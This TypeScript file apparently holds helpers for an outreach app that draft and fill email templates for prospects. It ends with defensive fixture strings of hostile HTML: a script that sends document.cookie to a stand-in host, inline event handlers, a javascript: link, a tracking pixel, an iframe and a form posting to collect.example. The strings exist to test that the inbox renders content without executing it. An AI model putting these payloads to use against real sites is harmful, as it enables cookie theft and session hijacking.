import type { Row } from '#service/workspace/rows.ts'
import type { Rep } from './people.ts'
import { fillIn, toHtml, type Play, type PlayStep } from './playbook.ts'
import type { TaskStory } from './task-story.ts'
import type { TemplateCard } from './templates.ts'

interface Addressed {
  rep: Rep
  prospect: Row<'prospects'>
}

/** The mail of an email step: drafted for an open task, delivered where `deliveredAt` is given. */
export function attachMailing(
  story: TaskStory, run: Addressed & { play: Play; step: PlayStep; state: Row<'sequence_states'> }, deliveredAt: Date | null = null,
): void {
  const { prospect, rep, step, play, state } = run
  if (!step.template) return
  const words = wordsFor(run)
  const text = fillIn(step.template.card.body, words)
  const created = new Date(story.task.created_at)
  story.mailing = {
    id: 0, subject: fillIn(step.template.card.subject ?? '', words), state: deliveredAt ? 'delivered' : 'drafted', mailing_type: 'sequence',
    scheduled_at: deliveredAt, delivered_at: deliveredAt, body_text: text, body_html: toHtml(text), error_reason: null,
    delivery_attempts: 0, lease_until: null, to_email: prospect.emails?.[0] ?? null, prospect_id: prospect.id, sequence_id: play.sequence.id, sequence_state_id: state.id,
    sequence_step_id: step.row.id, task_id: null, template_id: step.template.id, user_id: rep.user.id,
    created_at: created, updated_at: deliveredAt ?? created,
  }
}

/** A template filled for one prospect, as HTML. */
export function compileTemplate(card: TemplateCard, run: Addressed): string {
  return toHtml(fillIn(card.body, wordsFor(run)))
}

function wordsFor({ prospect, rep }: Addressed) {
  return { first_name: prospect.first_name, company: prospect.company ?? '', 'sender.first_name': rep.user.first_name }
}

/** What arrives in real accounts when somebody pastes a page into a template; the inbox must show it and run none of it. */
export const hostileHtml = [
  '<p>Hi there, saw your post about hiring.</p><script>fetch("https://collect.example/?c=" + document.cookie)</script>' +
    '<img src="missing.png" onerror="document.title = \'owned\'"><p>Worth a chat?</p>',
  '<style>body { display: none }</style><p style="position:fixed;inset:0" onclick="alert(1)">Loved the talk!</p>' +
    '<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1"><a href="javascript:alert(document.domain)">the recording</a>' +
    '<iframe src="https://frame.example/"></iframe><svg onload="alert(2)"></svg><form action="https://collect.example/"><input name="q"></form>',
] as const
